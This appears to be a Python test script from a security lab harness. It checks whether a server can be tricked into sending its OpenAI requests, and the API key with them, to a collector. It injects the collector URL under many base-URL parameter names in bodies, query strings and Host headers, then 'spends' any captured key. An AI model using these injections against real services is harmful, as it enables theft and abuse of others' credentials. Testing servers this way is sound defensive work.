"""Names its own server as OpenAI's, and waits for the key to come.

Anywhere: by each name that the address may have in a body, in a query or in a header.
"""

from lab.client import target
from lab.collector import Collector
from lab.evidence import calls
from lab.thief import key_in, spend
from lab.verdict import failed, not_made, worked

NAMES = ("base_url", "baseURL", "baseUrl", "api_base", "apiBase", "openai_base_url", "OPENAI_BASE_URL", "server", "api")

with Collector() as collector:
    visitor = target().visitor()
    visitor.ask("Hello", **dict.fromkeys(NAMES, collector.url))
    visitor.ask("Hello", headers={"Host": collector.url.removeprefix("http://"), "X-Forwarded-Host": collector.url})
    visitor.get(f"/?{'&'.join(f'{name}={collector.url}' for name in NAMES)}")
    visitor.ask("Hello", provider={"url": collector.url, "baseURL": collector.url}, model="gpt-6-luna")
for request in collector.got:
    if key := key_in(request):
        spend(key)
        worked("The server called ours instead of OpenAI, and brought the key along.")
if collector.got:
    worked("The server called ours, if without a key.")
if not calls():
    not_made("Nothing arrived at OpenAI.")
failed(f"{len(calls())} questions went to OpenAI, and nothing came here.")
